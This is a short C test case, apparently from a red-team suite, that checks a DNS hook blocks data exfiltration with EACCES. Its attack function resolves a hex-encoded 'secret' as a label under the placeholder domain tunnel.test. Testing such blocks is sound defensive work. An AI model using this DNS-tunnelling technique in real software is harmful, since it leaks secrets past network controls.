// SPDX-License-Identifier: Apache-2.0
/*
 * Attack: sends what it knows out as the label of a name
 * Hook: (DNS stub)
 * Errno: EACCES
 * Control: looks up the allowed name
 * Record: resolve 736563726574.tunnel.test
 * As: root+outside user+outside
 */
#include "tests/redteam/dns.h"

static int attack(void)
{
	return look_up("736563726574.tunnel.test");
}

static int control(void)
{
	return look_up(NAME_ALLOWED);
}

REDTEAM(.attack = attack, .control = control)
